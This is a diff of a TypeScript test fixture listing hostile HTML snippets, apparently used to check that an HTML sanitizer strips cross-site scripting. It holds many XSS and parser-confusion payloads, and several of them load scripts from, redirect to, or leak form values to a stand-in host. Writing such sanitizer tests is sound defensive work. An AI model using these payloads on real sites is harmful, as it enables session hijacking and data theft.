@@ -1,31 +1,23 @@
 const js = 'window.canary=1;alert(1)'
 const host = 'https://hostile.example'
 
-/** Could be stored with an administrator's session (D24). Each piece closes its tags, so that they can be joined. */
+/**
+ * Could be stored with an administrator's session (D24). Each piece closes its tags, so that they can be joined. Tricks
+ * of the HTML parser are tests of DOMPurify.
+ */
 export const hostileHtml: Record<string, string> = {
   script: `<script>${js}</script>`,
   'script from elsewhere': `<script src="${host}/a.js"></script>`,
   'script module': `<script type="module">import '${host}/a.js'</script>`,
-  'script within script': `<scr<script>${js}</script>ipt>${js}</script>`,
-  'script in capitals, with a slash': `<SCRIPT/x>${js}</SCRIPT>`,
-  noscript: `<noscript><p title="</noscript><img src=x onerror=${js}>"></p></noscript>`,
 
   'image that fails': `<img src="x" onerror="${js}">`,
-  'handler after a slash': `<img/src/onerror=${js}>`,
-  'handler after a line feed': `<img src=x\nonerror\n=\n"${js}">`,
   'handler behind a quote': `<img alt="a" title='"onerror="${js}"' src=x>`,
   'pointer and focus': `<p onpointerover="${js}" onfocus="${js}" tabindex="1" autofocus>a</p>`,
-  'animation event': `<p onanimationstart="${js}" style="animation:spin 1s">a</p>`,
   'details that open': `<details open ontoggle="${js}"><summary>a</summary></details>`,
-  'body that loads': `<body onload="${js}"><p>a</p></body>`,
-  marquee: `<marquee onstart="${js}">a</marquee>`,
   'video and audio': `<video autoplay src="x" onerror="${js}"></video><audio src="x" onerror="${js}"></audio>`,
 
   'javascript link': `<a href="javascript:${js}">a</a>`,
   'javascript link in entities': `<a href="&#106;&#x61;vascript&colon;${js}">a</a>`,
-  'javascript link with blanks': `<a href=" &#1; java&Tab;script&NewLine;:${js}">a</a>`,
-  'javascript link in capitals': `<a href="JaVaScRiPt:${js}">a</a>`,
-  'vbscript link': '<a href="vbscript:msgbox(1)">a</a>',
   'data link': `<a href="data:text/html,<script>${js}</script>">a</a>`,
   'blob and file links': '<a href="blob:https://hostile.example/1">a</a><a href="file:///etc/passwd">b</a>',
   'data image with script': `<img src="data:image/svg+xml,<svg onload='${js}' xmlns='http://www.w3.org/2000/svg'/>">`,
@@ -36,17 +28,9 @@ export const hostileHtml: Record<string, string> = {
 
   'svg script': `<svg><script>${js}</script></svg>`,
   'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
-  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${js}"/><text>a</text></a></svg>`,
-  'svg use': `<svg><use xlink:href="data:image/svg+xml,<svg id='x' onload='${js}'/>#x"/></svg>`,
   'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
-  'math link': `<math href="javascript:${js}"><mi xlink:href="javascript:${js}">a</mi></math>`,
   'math, table and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;"></style></mglyph></table></mtext></math>`,
-  'svg, style and comment': `<svg></p><style><a id="</style><img src=1 onerror=${js}>"></a></style></svg>`,
-  'conditional comment': `<!--[if true]><img src=x onerror=${js}><![endif]-->`,
-  'comment that ends early': `<!--><img src=x onerror=${js}>-->`,
-  'processing instruction': `<?xml-stylesheet href="javascript:${js}"?><![CDATA[<img src=x onerror=${js}>]]>`,
   'text that looks like markup': `<textarea></textarea><img src=x onerror=${js}><xmp><p title="</xmp><img src=x onerror=${js}>"></p></xmp>`,
-  'noembed and noframes': `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed><noframes><p title="</noframes><img src=x onerror=${js}>"></p></noframes>`,
 
   'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
   'style that leaks form values': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
@@ -61,7 +45,6 @@ export const hostileHtml: Record<string, string> = {
   iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
   'iframe with its own document': `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
   'object and embed': `<object data="javascript:${js}"></object><embed src="${host}/a.swf"><applet code="A"></applet>`,
-  portal: `<portal src="${host}"></portal><frameset><frame src="${host}"></frameset>`,
 
   'base URL': `<base href="${host}" target="_blank">`,
   refresh: `<meta http-equiv="refresh" content="0;url=${host}">`,
@@ -71,7 +54,6 @@ export const hostileHtml: Record<string, string> = {
   'fields without a form':
     '<input value="a"><select><option>a</option></select><textarea>a</textarea><label for="root">a</label>',
   'button for another form': `<button form="x" command="show-modal" commandfor="p">a</button><input type="image" src="${host}/a.png">`,
-  template: `<template><img src=x onerror=${js}></template>`,
   'shadow root': `<div><template shadowrootmode="open"><style>:host{position:fixed}</style><slot></slot></template></div>`,
   'slot and part': '<slot name="a"></slot><p slot="a" part="b" is="x-y">a</p>',
   'custom element': `<x-y onclick="${js}" style="position:fixed">a</x-y>`,
@@ -84,9 +66,7 @@ export const hostileHtml: Record<string, string> = {
   'hidden from some': '<p hidden inert aria-hidden="true">a</p>',
 
   'deep nesting': `${'<div>'.repeat(1000)}<img src=x onerror=${js}>${'</div>'.repeat(1000)}`,
-  'many attributes': `<p ${Array.from({ length: 500 }, (_, n) => `onx${n}=1`).join(' ')} onclick="${js}">a</p>`,
   'null characters': `<img src=x on&#0;error=${js}><a href="java&#0;script:${js}">a</a>`,
-  'characters that look alike': `\uff1cscript\uff1e${js}\uff1c/script\uff1e <img src=x \u017fonerror=${js}>`,
 }
 
 /** The parser would add the text after a piece to its open tag, attribute or comment. */
@@ -95,9 +75,6 @@ export const unclosedHtml: Record<string, string> = {
   'unclosed comment': `<p>a</p><!-- <img src=x onerror=${js}>`,
   'unclosed attribute': `<p>a</p><img src=x onerror=${js} alt="`,
   'unclosed textarea': `<p>a</p><textarea><img src=x onerror=${js}>`,
-  'unclosed title': `<p>a</p><title><img src=x onerror=${js}>`,
   'unclosed script': `<p>a</p><script>${js}`,
-  'unclosed style': `<p>a</p><style>@import '${host}/a.css';`,
-  'unclosed tag': `<p>a</p><img src=x onerror=${js} `,
   'form in form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}></style></mglyph></form>`,
 }
